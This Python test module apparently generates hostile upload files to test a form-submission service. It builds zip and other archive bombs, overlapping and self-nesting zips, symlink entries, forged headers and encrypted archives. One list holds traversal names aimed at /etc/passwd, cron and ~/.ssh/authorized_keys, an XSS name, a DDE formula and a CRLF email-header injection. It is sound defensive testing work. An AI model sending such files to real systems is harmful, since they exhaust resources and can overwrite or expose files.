"""Archives made to harm whoever opens them, each from a chance."""

from __future__ import annotations

import bz2
import io
import lzma
import random
import struct
import zipfile
import zlib
from functools import cache

from tests.attack.mutants import PASSWORD
from tests.unit.sample_files import encrypted_office, zipped, zipped_aes, zipped_old
from tests.unit.sample_forms import sheet_of

Made = tuple[str, bytes]  # file name, content
MB = 2**20
FORM_ROWS = [("市区町村名", "見本町"), ("担当課", "防災課"), ("電話番号", "0123-45-6789")]
XLSX = "利用申込書.xlsx"


@cache
def form() -> bytes:
    return sheet_of(FORM_ROWS)


def bomb(chance: random.Random) -> Made:
    """Zeros by the megabyte, in one member or in many."""
    size = chance.choice((30, 61, 200)) * MB
    count = chance.choice((1, 2, 20))
    return "申込.zip", zipped({f"{n}.xlsx": bytes(size // count) for n in range(count)})


def overlapping(chance: random.Random) -> Made:
    """Thousands of entries that share the bytes of one: small, and huge once unpacked."""
    kernel = zlib.compress(bytes(5 * MB), 9)[2:-4]
    crc, size = zlib.crc32(bytes(5 * MB)), 5 * MB
    local = (
        struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(kernel), size, 1, 0)
        + b"a"
    )
    body = local + kernel
    count = chance.choice((90, 1_500, 30_000))
    entries = b"".join(
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(kernel), size, 6, 0, 0, 0, 0, 0, 0)
        + b"%06d" % n
        for n in range(count)
    )  # fmt: skip
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, count % 65536, count % 65536, len(entries), len(body), 0
    )
    return "申込.zip", body + entries + end


def nested(chance: random.Random) -> Made:
    """Zips in zips, deeper than anybody packs."""
    content, depth = form(), chance.choice((3, 10, 60))
    for level in range(depth):
        content = zipped({f"{level}.zip": content} | ({"b.zip": content} if level < 8 else {}))
        if len(content) > 8 * MB:
            break
    return "申込.zip", content


def swallows_itself(chance: random.Random) -> Made:
    """A zip whose member is the zip again, as far as bytes allow: its own head, over and over."""
    inner = zipped({"r.zip": b""})
    for _ in range(chance.choice((4, 12))):
        inner = zipped({"r.zip": inner, "r2.zip": inner[: len(inner) // 2]})
    return "r.zip", inner


def paths(chance: random.Random) -> Made:
    """Names that lead elsewhere."""
    names = [
        "../../../../etc/passwd", "/etc/cron.d/x", "C:\\Windows\\x.xlsx", "..\\..\\x.xlsx", "a/../../b.xlsx",
        "con", "nul.xlsx", "x\x00.xlsx", "-rf", "~/.ssh/authorized_keys", "\u202exslx.exe", "a" * 5_000, "\x1b[2Jx.xlsx",
        "<img src=x onerror=alert(1)>.xlsx", "=cmd|' /C calc'!A0.xlsx", "\r\nBcc: x@evil.example",
    ]  # fmt: skip
    chosen = chance.sample(names, 6)
    return chance.choice(names), zipped({name: form() for name in chosen}, cp932=False)


def links(chance: random.Random) -> Made:
    """Symbolic links and devices."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as file:
        for name, mode, target in (("a.xlsx", 0o120777, "/etc/passwd"), ("b.xlsx", 0o060600, "")):
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            file.writestr(info, target)
        file.writestr("c.xlsx", form() if chance.random() < 0.5 else b"")
    return "申込.zip", stream.getvalue()


def odd_methods(chance: random.Random) -> Made:
    """Methods of packing that unpack further than deflate, or that nobody knows."""
    method = chance.choice((zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA, 9, 93, 97, 99))
    known = method if method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA) else zipfile.ZIP_STORED
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", known) as file:
        file.writestr(XLSX, bytes(50 * MB) if known else form())
    content = stream.getvalue()
    if method == zipfile.ZIP_LZMA:  # asks for a dictionary of four gigabytes
        return "申込.zip", content.replace(struct.pack("<I", 1 << 23), b"\xff" * 4, 1)
    if method != known:
        content = content.replace(
            b"PK\x03\x04\x14\x00\x00\x00\x00\x00",
            b"PK\x03\x04\x14\x00\x00\x00" + struct.pack("<H", method),
        )
    return "申込.zip", content


def lying_sizes(chance: random.Random) -> Made:
    """Headers that tell other sizes than what is there, zip64 ones too."""
    content = zipped({XLSX: form(), "b.txt": b"b" * 100_000})
    at = content.index(b"PK\x01\x02")
    lie = struct.pack(
        "<II", chance.choice((0, 1, 2**31, 2**32 - 1)), chance.choice((0, 7, 2**32 - 1))
    )
    return "申込.zip", content[: at + 20] + lie + content[at + 28 :]


def locked(chance: random.Random) -> Made:
    """Encrypted, password unknown: AES, the old way, an Office file; or one that takes long to try."""
    way = chance.randrange(4)
    if way == 0:
        return "申込.zip", zipped_aes({XLSX: form()}, PASSWORD)
    if way == 1:
        return "申込.zip", zipped_old(XLSX, form(), PASSWORD)
    content = encrypted_office(form(), PASSWORD)
    spins = chance.choice((b"100000", b"999999", b"-00001"))
    return XLSX, content.replace(b'spinCount="100000"', b'spinCount="' + spins + b'"')


def other_packers(chance: random.Random) -> Made:
    """gzip, bzip2, xz, 7z, RAR, LZH and CAB bombs, or only their first bytes."""
    zeros = bytes(20 * MB)
    made = {
        "a.gz": lambda: zlib.compress(zeros, 9, 31),
        "a.bz2": lambda: bz2.compress(zeros),
        "a.xz": lambda: lzma.compress(zeros, preset=0),
        "a.7z": lambda: b"7z\xbc\xaf\x27\x1c" + chance.randbytes(500),
        "a.rar": lambda: b"Rar!\x1a\x07\x01\x00" + chance.randbytes(500),
        "a.lzh": lambda: b"\x20\x00-lh5-" + chance.randbytes(500),
        "a.cab": lambda: b"MSCF" + chance.randbytes(500),
    }
    name = chance.choice(list(made))
    return name, made[name]()
